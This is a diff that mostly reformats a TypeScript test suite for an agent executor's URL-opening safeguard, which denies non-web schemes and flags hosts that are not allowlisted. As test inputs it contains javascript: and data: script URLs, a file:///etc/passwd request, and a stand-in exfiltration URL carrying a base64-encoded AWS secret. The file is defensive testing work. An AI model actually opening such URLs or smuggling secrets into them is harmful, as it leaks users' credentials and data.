@@ -15,7 +15,15 @@ const plan = (url: string) => ({ steps: [{ id: 'u1', action: 'openURL', args: { 
 
 describe('openURL', () => {
   it('denies every scheme but http: and https:, judged after parsing', async () => {
-    for (const url of ['javascript:alert(1)', 'file:///etc/passwd', 'data:text/html,<script>x</script>', ' JAVASCRIPT:alert(1)', 'ftp://example.com/', 'not a url', 'https://user:pw@example.com/']) {
+    for (const url of [
+      'javascript:alert(1)',
+      'file:///etc/passwd',
+      'data:text/html,<script>x</script>',
+      ' JAVASCRIPT:alert(1)',
+      'ftp://example.com/',
+      'not a url',
+      'https://user:pw@example.com/',
+    ]) {
       const ex = executor();
       const [record] = await ex.propose(plan(url), agent);
       expect(record!.status, url).toBe('denied');
@@ -27,7 +35,10 @@ describe('openURL', () => {
   it('is HIGH for a host not on the allowlist and shows every query parameter decoded, flagging opaque values', async () => {
     const ex = executor();
     const secret = Buffer.from('AWS_SECRET_ACCESS_KEY=abcdefghijklmnop').toString('base64');
-    const [record] = await ex.propose(plan(`https://collector.example/p%20ath?q=hello%20world&d=${encodeURIComponent(secret)}#frag%21`), agent);
+    const [record] = await ex.propose(
+      plan(`https://collector.example/p%20ath?q=hello%20world&d=${encodeURIComponent(secret)}#frag%21`),
+      agent,
+    );
     expect(record!.status).toBe('awaiting_consent');
     expect(record!.evaluation?.risk).toBe('HIGH');
     expect(record!.evaluation?.reversible).toBe(false);
@@ -46,12 +57,27 @@ describe('openURL', () => {
 
   it('is LOW for an allowlisted host (exact or *.subdomain), and HIGH again when it carries an opaque value', async () => {
     const ex = executor({ network: { allowHosts: ['docs.example.org', '*.trusted.example'] } });
-    const [exact] = await ex.propose({ steps: [{ action: 'openURL', args: { url: 'https://docs.example.org/guide?page=2', purpose: 'p' } }] }, agent);
+    const [exact] = await ex.propose(
+      { steps: [{ action: 'openURL', args: { url: 'https://docs.example.org/guide?page=2', purpose: 'p' } }] },
+      agent,
+    );
     const [sub] = await ex.propose({ steps: [{ action: 'openURL', args: { url: 'https://a.trusted.example/', purpose: 'p' } }] }, agent);
     const [bare] = await ex.propose({ steps: [{ action: 'openURL', args: { url: 'https://trusted.example/', purpose: 'p' } }] }, agent);
-    const [lookalike] = await ex.propose({ steps: [{ action: 'openURL', args: { url: 'https://eviltrusted.example/', purpose: 'p' } }] }, agent);
-    const [carrying] = await ex.propose({ steps: [{ action: 'openURL', args: { url: `https://docs.example.org/?x=${'Zm9v'.repeat(10)}`, purpose: 'p' } }] }, agent);
-    expect([exact, sub, bare, lookalike, carrying].map((record) => record!.evaluation?.risk)).toEqual(['LOW', 'LOW', 'HIGH', 'HIGH', 'HIGH']);
+    const [lookalike] = await ex.propose(
+      { steps: [{ action: 'openURL', args: { url: 'https://eviltrusted.example/', purpose: 'p' } }] },
+      agent,
+    );
+    const [carrying] = await ex.propose(
+      { steps: [{ action: 'openURL', args: { url: `https://docs.example.org/?x=${'Zm9v'.repeat(10)}`, purpose: 'p' } }] },
+      agent,
+    );
+    expect([exact, sub, bare, lookalike, carrying].map((record) => record!.evaluation?.risk)).toEqual([
+      'LOW',
+      'LOW',
+      'HIGH',
+      'HIGH',
+      'HIGH',
+    ]);
   });
 
   it('stays HIGH on an allowlisted host when data rides in the fragment or is cut across query values, and says where', async () => {
@@ -70,7 +96,8 @@ describe('openURL', () => {
     for (const [url, risk] of cases) {
       const [record] = await ex.propose({ steps: [{ action: 'openURL', args: { url, purpose: 'p' } }] }, agent);
       expect(record!.evaluation?.risk, url).toBe(risk);
-      if (risk === 'HIGH') expect(record!.evaluation?.reasons.join(' ')).toMatch(/bytes of encoded-looking data .*could carry data from this machine/);
+      if (risk === 'HIGH')
+        expect(record!.evaluation?.reasons.join(' ')).toMatch(/bytes of encoded-looking data .*could carry data from this machine/);
     }
   });
 
@@ -107,7 +134,10 @@ describe('openURL', () => {
       expect(record!.evaluation?.risk, url).toBe('HIGH');
       expect(record!.evaluation?.reasons.join(' '), url).toMatch(/could carry data from this machine/);
     }
-    for (const url of ['https://x.github.io/docs/getting-started/#installation', 'https://x.github.io/blog/2024/05/17/announcing-version-two/']) {
+    for (const url of [
+      'https://x.github.io/docs/getting-started/#installation',
+      'https://x.github.io/blog/2024/05/17/announcing-version-two/',
+    ]) {
       const [record] = await executor({ network: { allowHosts: ['*.github.io'] }, autoApprove: 'LOW' }).propose(plan(url), agent);
       expect(record!.evaluation?.risk, url).toBe('LOW');
     }
